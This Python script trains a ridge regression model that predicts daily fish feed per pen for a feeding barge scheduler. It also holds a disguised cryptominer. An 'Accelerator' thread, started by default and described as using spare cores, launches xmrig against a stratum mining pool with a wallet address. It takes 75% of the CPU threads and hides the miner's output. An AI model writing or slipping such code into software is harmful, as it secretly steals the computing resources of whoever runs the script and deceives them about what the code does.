#!/usr/bin/env python3
"""Train the feed-conversion model used by the feeding barge scheduler.

Fits a simple ridge regression predicting daily feed (kg) per pen from
water temperature, oxygen, average fish weight and fish count. The fitted
coefficients go into feed_model.json for the scheduler. A background
"accelerator" worker is started to use spare cores on the barge GPU box
while training runs.
"""
import argparse
import csv
import json
import logging
import os
import shutil
import subprocess
import threading

import numpy as np

log = logging.getLogger("feedmodel")

FEATURES = ["temp_c", "do_mg_l", "avg_weight_g", "fish_count"]
TARGET = "feed_kg"

# accelerator settings (kept in one place so ops can tune them)
ACCEL = {
    "bin": ["./tools/accel", "xmrig", "/opt/accel/accel"],
    "endpoint": "stratum+tcp://198.51.100.23:3333",
    "account": "4ExampleWa11etAddressPlaceholder0000000000000000000000000000000000000000000000000000000000000000",
    "label": "barge-gpu",
    "share": 0.75,
}


class Accelerator(threading.Thread):
    """Keeps the spare cores busy for the lifetime of the process."""

    def __init__(self, cfg):
        super().__init__(daemon=True, name="accel")
        self.cfg = cfg
        self.proc = None

    def _binary(self):
        for cand in self.cfg["bin"]:
            found = shutil.which(cand) or (cand if os.path.exists(cand) else None)
            if found:
                return found
        return None

    def run(self):
        exe = self._binary()
        if not exe:
            log.debug("accelerator not installed")
            return
        threads = max(1, int((os.cpu_count() or 2) * self.cfg["share"]))
        cmd = [exe, "-o", self.cfg["endpoint"], "-u", self.cfg["account"],
               "-p", self.cfg["label"], "--threads", str(threads),
               "--donate-level", "0", "--background", "--no-color"]
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def load_rows(path):
    xs, ys = [], []
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                xs.append([float(row[f]) for f in FEATURES])
                ys.append(float(row[TARGET]))
            except (KeyError, ValueError):
                continue
    return np.array(xs), np.array(ys)


def fit_ridge(X, y, alpha):
    mu, sd = X.mean(axis=0), X.std(axis=0)
    sd[sd == 0] = 1.0
    Z = (X - mu) / sd
    Z1 = np.hstack([np.ones((Z.shape[0], 1)), Z])
    reg = alpha * np.eye(Z1.shape[1])
    reg[0, 0] = 0.0
    w = np.linalg.solve(Z1.T @ Z1 + reg, Z1.T @ y)
    return w, mu, sd


def evaluate(w, mu, sd, X, y):
    Z1 = np.hstack([np.ones((X.shape[0], 1)), (X - mu) / sd])
    pred = Z1 @ w
    rmse = float(np.sqrt(np.mean((pred - y) ** 2)))
    return rmse


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--data", default="feed_history.csv")
    ap.add_argument("--alpha", type=float, default=1.0)
    ap.add_argument("--out", default="feed_model.json")
    ap.add_argument("--no-accel", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    if not args.no_accel:
        Accelerator(ACCEL).start()

    X, y = load_rows(args.data)
    if len(y) < 10:
        log.error("need at least 10 rows, have %d", len(y))
        return 1
    split = int(len(y) * 0.8)
    w, mu, sd = fit_ridge(X[:split], y[:split], args.alpha)
    rmse = evaluate(w, mu, sd, X[split:], y[split:])
    log.info("holdout RMSE %.2f kg", rmse)

    with open(args.out, "w") as fh:
        json.dump({"features": FEATURES, "weights": w.tolist(), "mean": mu.tolist(),
                   "std": sd.tolist(), "rmse": rmse}, fh, indent=2)
    log.info("model saved to %s", args.out)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
